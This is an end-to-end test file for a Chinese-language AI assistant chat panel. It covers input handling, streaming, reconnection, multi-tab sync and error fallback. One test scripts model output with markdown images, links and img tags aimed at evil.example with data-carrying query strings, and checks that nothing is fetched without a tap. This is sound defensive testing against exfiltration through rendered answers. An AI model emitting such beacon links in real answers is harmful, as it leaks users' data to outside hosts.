import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, test } from 'node:test'
import { desc } from 'drizzle-orm'
import { aiSensitiveWords, aiTurns } from '../../server/domains/assistant/assistant.table'
import { LLM_TEXTS } from '../../server/domains/assistant/llm.texts'
import { assistantTexts } from '../../src/features/knowledge/assistant/assistant.i18n'
import { eventually, wordsIn } from '../screen'
import type { Step } from '../vendors/llm'
import {
  PARAGRAPHS,
  answer,
  answers,
  ask,
  callsOf,
  finished,
  gate,
  input,
  list,
  openAssistantPortal,
  questions,
  said,
  send,
  signedInTo,
  whole,
  openPanel,
  tapButton,
  type AssistantPortal,
} from './assistant-panel'
import type { Portal } from './portal'
import { switchboard } from './switchboard'

const t = wordsIn('zh')(assistantTexts)
const ASK = '/xiaobao/chat/handle/handleChatStream'

let assistant: AssistantPortal
let portal: Portal
let vendor: AssistantPortal['vendor']
before(async () => {
  assistant = await openAssistantPortal({ whole: true })
  ;({ portal, vendor } = assistant)
  await portal.db.insert(aiSensitiveWords).values({ tenantId: assistant.company.tenant.id, word: '彩票' })
})
after(() => assistant.stop())
beforeEach(() => assistant.rest())

describe('writing a question', () => {
  test('Enter that ends a word of an input method sends nothing, the next one does', async () => {
    const phone = await assistant.withPanel()
    const asked = callsOf(phone, ASK)
    await input(phone).focus()
    const keys = await phone.context.newCDPSession(phone.page)
    await keys.send('Input.imeSetComposition', { text: 'kongtiao', selectionStart: 8, selectionEnd: 8 })
    // the input method takes the key: no character comes of it
    await keys.send('Input.dispatchKeyEvent', {
      type: 'rawKeyDown',
      key: 'Enter',
      code: 'Enter',
      windowsVirtualKeyCode: 13,
    })
    assert.deepEqual(
      [await input(phone).inputValue(), asked.length, await questions(phone).count()],
      ['kongtiao', 0, 0],
    )
    await keys.send('Input.insertText', { text: '空调不制冷' })
    await phone.page.keyboard.press('Shift+Enter')
    await phone.page.keyboard.type('怎么办')
    assert.equal(await input(phone).inputValue(), '空调不制冷\n怎么办')
    await phone.page.keyboard.press('Enter')
    await finished(phone)
    assert.deepEqual(
      [
        asked.length,
        await questions(phone).locator('.chat-message__bubble').allTextContents(),
        await input(phone).inputValue(),
      ],
      [1, ['空调不制冷\n怎么办'], ''],
    )
    await assistant.giveBack(phone)
  })

  test('a double tap asks once, and a text that is not sent comes back', async () => {
    const phone = await assistant.withPanel()
    const asked = callsOf(phone, ASK)
    await input(phone).fill('多久清洗一次？')
    await send(phone).dblclick()
    await finished(phone)
    assert.deepEqual([asked.length, await questions(phone).count(), await answers(phone).count()], [1, 1, 1])
    await ask(phone, '哪里卖彩票')
    await phone.toast(t('sensitive'))
    await eventually(async () => assert.equal(await input(phone).inputValue(), '哪里卖彩票'))
    assert.equal(await questions(phone).count(), 1)
    await input(phone).fill('   ')
    await send(phone).click()
    await phone.toast(t('placeholder'))
    assert.equal(asked.length, 1)
    // each conversation keeps its draft, over a reload
    await input(phone).fill('写到一半')
    await eventually(async () => assert.match(JSON.stringify(await phone.kept('drafts')), /写到一半/))
    await phone.reload()
    await tapButton(phone)
    await eventually(async () => assert.equal(await input(phone).inputValue(), '写到一半'))
    await assistant.giveBack(phone)
  })

  test('the input stays above a keypad that covers the page, and above one that makes it smaller', async () => {
    const phone = await assistant.withPanel()
    const bottom = async () => {
      const box = await phone.page.locator('.composer__bar').boundingBox()
      return box ? box.y + box.height : Infinity
    }
    await phone.page.evaluate(() => {
      // as iOS tells it: the window keeps its size, only the visual viewport shrinks
      Object.defineProperty(visualViewport, 'height', { value: 500, configurable: true })
      visualViewport?.dispatchEvent(new Event('resize'))
    })
    await eventually(async () =>
      assert.ok((await bottom()) <= 500, `the input ends at ${String(await bottom())} px of 500`),
    )
    await phone.page.evaluate(() => {
      Reflect.deleteProperty(visualViewport ?? {}, 'height')
      visualViewport?.dispatchEvent(new Event('resize'))
    })
    await eventually(async () => assert.ok((await bottom()) > 700))
    await phone.page.setViewportSize({ width: 390, height: 460 })
    await eventually(async () =>
      assert.ok((await bottom()) <= 460, `the input ends at ${String(await bottom())} px of 460`),
    )
    assert.ok(((await phone.page.locator('.chat-head').boundingBox())?.y ?? -1) >= 0)
    await phone.leave()
  })
})

describe('an answer that comes', () => {
  test('is followed, but does not pull a reader down who has scrolled up', async () => {
    const phone = await assistant.withPanel()
    const [more, rest] = [gate(), gate()]
    vendor.script({
      steps: [...PARAGRAPHS.slice(0, 20), more.step, ...PARAGRAPHS.slice(20, 35), rest.step, ...PARAGRAPHS.slice(35)],
    })
    await ask(phone, '怎么清洗？')
    await answer(phone).getByText('第 20 段').waitFor()
    const place = () =>
      list(phone).evaluate(one => ({
        top: one.scrollTop,
        left: one.scrollHeight - one.scrollTop - one.clientHeight,
        height: one.scrollHeight,
      }))
    await eventually(async () => assert.ok((await place()).left <= 1, 'the end is in sight'))
    const { top: end } = await place()
    await list(phone).hover()
    await phone.page.mouse.wheel(0, -300)
    await phone.page.locator('.chat__latest').waitFor()
    // a wheel is followed when the browser has time
    const { top, height } = await eventually(async () => {
      const now = await place()
      assert.equal(now.top, end - 300)
      return now
    })
    more.open()
    await answer(phone).getByText('第 35 段').waitFor({ state: 'attached' })
    await eventually(async () => assert.ok((await place()).height > height + 300, 'it has grown'))
    assert.equal((await place()).top, top)
    await phone.page.locator('.chat__latest').click()
    await eventually(async () => assert.ok((await place()).left <= 1))
    rest.open()
    await finished(phone)
    await eventually(async () => assert.ok((await place()).left <= 1, 'it is followed again'))
    assert.equal(await said(phone), whole(PARAGRAPHS))
    await assistant.giveBack(phone)
  })

  test('a thousand tokens a second are seen soon after they arrive, at the end as at the beginning', async t2 => {
    const phone = await assistant.withPanel()
    // 160 marks, 25 tokens of four characters apart; the stream writes other letters as escapes
    const marks = Array.from({ length: 160 }, (_, i) => `#${String(i).padStart(3, '0')}`)
    vendor.script({
      steps: marks.flatMap((mark, i): Step[] => [
        `${mark}先关闭电源，再取下滤网，用清水冲洗，晾干以后装回去。${'检查进水阀和排水管。'.repeat(7)}${i % 4 === 3 ? '\n\n' : ''}`,
        { wait: 25 },
      ]),
    })
    await phone.page.evaluate(() => {
      const [received, seen] = [new Map<string, number>(), new Map<string, number>()]
      const note = (where: Map<string, number>, text: string) => {
        for (const [mark] of text.matchAll(/#\d{3}/g)) if (!where.has(mark)) where.set(mark, performance.now())
      }
      const { read } = ReadableStreamDefaultReader.prototype
      ReadableStreamDefaultReader.prototype.read = async function readAndNote(this: ReadableStreamDefaultReader) {
        const part = (await read.call(this)) as ReadableStreamReadResult<Uint8Array>
        if (part.value) note(received, new TextDecoder().decode(part.value))
        return part
      } as typeof read
      const look = () => {
        note(seen, [...document.querySelectorAll('.chat-message--assistant')].at(-1)?.textContent ?? '')
        requestAnimationFrame(look)
      }
      look()
      Object.assign(window, {
        lags: () => [...seen].flatMap(([mark, at]) => (received.has(mark) ? [at - (received.get(mark) ?? 0)] : [])),
      })
    })
    await ask(phone, '怎么清洗？')
    await finished(phone)
    const lags = await phone.page.evaluate(() => (window as unknown as { lags(): number[] }).lags())
    const middle = (some: number[]) => some.toSorted((a, b) => a - b)[some.length >> 1] ?? NaN
    const [early, late] = [middle(lags.slice(0, 40)), middle(lags.slice(-40))]
    t2.diagnostic(
      `from receipt to the screen: ${early.toFixed(0)} ms at first, ${late.toFixed(0)} ms at last, ${Math.max(...lags).toFixed(0)} ms at most; 250 are wanted`,
    )
    assert.ok(lags.length > 140, `${String(lags.length)} marks were seen`)
    assert.ok(late <= 3 * Math.max(early, 60), 'it does not fall behind')
    await assistant.giveBack(phone)
  })

  test('goes on after the line is cut, each word once', async () => {
    const board = await switchboard()
    after(() => board.close())
    board.target = portal.url
    const phone = await openPanel(await signedInTo(assistant.company, { origin: board.url }))
    const [first, second] = [gate(), gate()]
    vendor.script({
      steps: [...PARAGRAPHS.slice(0, 3), first.step, ...PARAGRAPHS.slice(3, 6), second.step, ...PARAGRAPHS.slice(6, 9)],
    })
    const [lines, before] = [callsOf(phone, ASK), vendor.asked.length]
    await ask(phone, '怎么清洗？')
    await answer(phone).getByText('第 3 段').waitFor()
    board.target = ''
    board.hangUp()
    first.open()
    board.target = portal.url
    await answer(phone).getByText('第 6 段').waitFor()
    // as a phone without network, and as an app in the background
    await phone.context.setOffline(true)
    board.hangUp()
    second.open()
    await phone.context.setOffline(false)
    await finished(phone)
    assert.equal(await said(phone), whole(PARAGRAPHS.slice(0, 9)))
    assert.ok(lines.length >= 3, `${String(lines.length)} lines`)
    assert.deepEqual([vendor.asked.length - before, await questions(phone).count()], [1, 1])
    await phone.leave()
  })

  test('a tab that was frozen catches up, and never shows half an answer as a whole one', async () => {
    const phone = await assistant.withPanel()
    const first = gate()
    vendor.script({ steps: [...PARAGRAPHS.slice(0, 2), first.step, ...PARAGRAPHS.slice(2, 8)] })
    await ask(phone, '怎么清洗？')
    await answer(phone).getByText('第 2 段').waitFor()
    const device = await phone.context.newCDPSession(phone.page)
    await device.send('Page.setWebLifecycleState', { state: 'frozen' })
    first.open()
    await eventually(async () => {
      const [turn] = await portal.db
        .select({ state: aiTurns.state })
        .from(aiTurns)
        .orderBy(desc(aiTurns.createTime))
        .limit(1)
      assert.equal(turn?.state, 'done')
    })
    await device.send('Page.setWebLifecycleState', { state: 'active' })
    await finished(phone)
    assert.equal(await said(phone), whole(PARAGRAPHS.slice(0, 8)))
    await assistant.giveBack(phone)
  })

  test('is still there after a reload, another screen and another conversation', async () => {
    const phone = await assistant.withPanel()
    const gates = [gate(), gate(), gate()]
    vendor.script(
      {
        steps: [
          ...PARAGRAPHS.slice(0, 2),
          gates[0]?.step ?? '',
          ...PARAGRAPHS.slice(2, 4),
          gates[1]?.step ?? '',
          ...PARAGRAPHS.slice(4, 6),
          gates[2]?.step ?? '',
          ...PARAGRAPHS.slice(6, 8),
        ],
      },
      { steps: ['另一个回答。'] },
    )
    await ask(phone, '怎么清洗？')
    await answer(phone).getByText('第 2 段').waitFor()
    // A, B, and A again
    await phone.page.locator('#assistant-create').click()
    await ask(phone, '另一个问题')
    await finished(phone)
    assert.equal(await said(phone), '另一个回答。')
    gates[0]?.open()
    await phone.page.getByRole('button', { name: t('conversations') }).click()
    await phone.page.locator('.chats__open').nth(1).click()
    await answer(phone).getByText('第 4 段').waitFor()
    // another screen of the portal
    await phone.page.evaluate(() => {
      location.hash = '/mall/serviceCenter'
    })
    await phone.at('/mall/serviceCenter')
    gates[1]?.open()
    await tapButton(phone)
    await answer(phone).getByText('第 6 段').waitFor()
    await phone.reload()
    await tapButton(phone)
    await phone.page.getByRole('button', { name: t('conversations') }).click()
    await phone.page.locator('.chats__open').nth(1).click()
    await answer(phone).getByText('第 6 段').waitFor()
    gates[2]?.open()
    await finished(phone)
    assert.equal(await said(phone), whole(PARAGRAPHS.slice(0, 8)))
    assert.equal(await questions(phone).count(), 1)
    await assistant.giveBack(phone)
  })

  test('two tabs on one conversation show the same answer', async () => {
    const phone = await assistant.withPanel()
    const first = gate()
    vendor.script({ steps: [...PARAGRAPHS.slice(0, 2), first.step, ...PARAGRAPHS.slice(2, 5)] })
    await ask(phone, '怎么清洗？')
    await answer(phone).getByText('第 2 段').waitFor()
    const other = await phone.newTab()
    await other.open('/mall/user')
    await tapButton(other)
    await answer(other).getByText('第 2 段').waitFor()
    first.open()
    await Promise.all([finished(phone), finished(other)])
    for (const one of [phone, other]) {
      assert.equal(await said(one), whole(PARAGRAPHS.slice(0, 5)))
      assert.deepEqual([await questions(one).count(), await answers(one).count()], [1, 1])
    }
    await assistant.giveBack(phone)
  })

  test('where a model errs, says nothing or breaks off, the knowledge base answers and says so', async () => {
    const phone = await assistant.withPanel()
    vendor.script(
      { steps: [{ error: { code: 'server_error', message: 'secret of the vendor' } }] },
      { steps: [] },
      { steps: ['说了一半', 'cut!'] },
      { steps: ['好了。'] },
    )
    const again = () =>
      answer(phone)
        .getByRole('button', { name: t('retry') })
        .click()
    await ask(phone, '第一问')
    await finished(phone)
    assert.ok((await said(phone)).startsWith(LLM_TEXTS.zh.instead), await said(phone))
    const before = vendor.asked.length
    await again()
    await eventually(async () => assert.equal(vendor.asked.length, before + 1))
    await finished(phone)
    assert.ok((await said(phone)).startsWith(LLM_TEXTS.zh.instead), await said(phone))
    await again()
    await answer(phone).getByText(LLM_TEXTS.zh.cut).waitFor()
    await finished(phone)
    assert.match(await said(phone), /^说了一半/)
    await again()
    await answer(phone).getByText('好了。').waitFor()
    assert.equal(await questions(phone).count(), 1)
    assert.equal(await phone.page.getByText('secret of the vendor').count(), 0)
    await assistant.giveBack(phone)
  })
})

describe('what a model may not do', () => {
  test('nothing leaves for another host without a tap', async () => {
    const phone = await assistant.withPanel()
    const foreign: string[] = []
    phone.context.on('request', request => {
      if (!request.url().startsWith(portal.url) && /^https?:/.test(request.url())) foreign.push(request.url())
    })
    await phone.context.route('https://evil.example/**', route => route.fulfill({ body: 'elsewhere' }))
    vendor.script({
      steps: [
        '![a](https://evil.example/p.png?data=1) ',
        '[看这里](https://evil.example/l?data=2) ',
        '<img src="https://evil.example/h.png"> ',
        '\n\n![b][r]\n\n[r]: https://evil.example/r.png\n\n结束。',
      ],
    })
    await ask(phone, '看图')
    await answer(phone).getByText('结束。').waitFor()
    await finished(phone)
    await phone.quiet()
    assert.deepEqual(foreign, [])
    const [opened] = await Promise.all([phone.context.waitForEvent('page'), answer(phone).getByText('看这里').click()])
    assert.equal(opened.url(), 'https://evil.example/l?data=2')
    await phone.context.route('https://provider.example/**', route => route.fulfill({ body: 'provider' }))
    const [site] = await Promise.all([phone.context.waitForEvent('page'), phone.page.getByText(t('support')).click()])
    assert.equal(site.url(), 'https://provider.example/about')
    await assistant.giveBack(phone)
  })

  test('a list and a table of 10,000 characters are drawn whole, and the screen stays in hand', async () => {
    const phone = await assistant.withPanel()
    const rows = Array.from(
      { length: 260 },
      (_, i) => `| 第 ${String(i)} 行 | 更换滤芯并记录读数 | ${'0123456789'.repeat(2)} |\n`,
    )
    const items = Array.from({ length: 400 }, (_, i) => `- 第 ${String(i)} 项：检查水压、滤网和排水管\n`)
    vendor.script({ steps: ['| 甲 | 乙 | 丙 |\n|---|---|---|\n', ...rows, '\n', ...items] })
    await ask(phone, '列出来')
    await finished(phone)
    assert.equal(await answer(phone).locator('.md__table .md__row').count(), rows.length + 1)
    await answer(phone).getByText('第 399 项').waitFor()
    await phone.sound()
    await assistant.giveBack(phone)
  })
})

test('twenty long answers leave no more behind than what they say', async t2 => {
  const phone = await openPanel(await signedInTo(assistant.company))
  const device = await phone.context.newCDPSession(phone.page)
  const heap = async (): Promise<number> => {
    await device.send('HeapProfiler.collectGarbage')
    return (await device.send('Runtime.getHeapUsage')).usedSize
  }
  vendor.script({
    steps: [
      ...PARAGRAPHS,
      '```js\n',
      ...Array.from({ length: 60 }, (_, i) => `const a${String(i)} = ${String(i)}\n`),
      '```\n',
      '结束。',
    ],
  })
  const sizes: number[] = []
  for (let i = 0; i < 20; i++) {
    await ask(phone, `第 ${String(i + 1)} 问`)
    await eventually(async () => assert.equal(await answers(phone).locator('.chat-message__actions').count(), i + 1))
    if (i % 5 === 4) sizes.push(await heap())
    if (i === 9) portal.clock.advance(60_000)
  }
  t2.diagnostic(sizes.map(size => `${String(Math.round(size / 1024))} KB`).join(', '))
  const [five = 0, ten = 0, fifteen = 0, twenty = 0] = sizes
  assert.ok(
    twenty - fifteen <= 2 * Math.max(ten - five, 500_000),
    'the last five answers take no more than the second five',
  )
  await phone.leave()
})
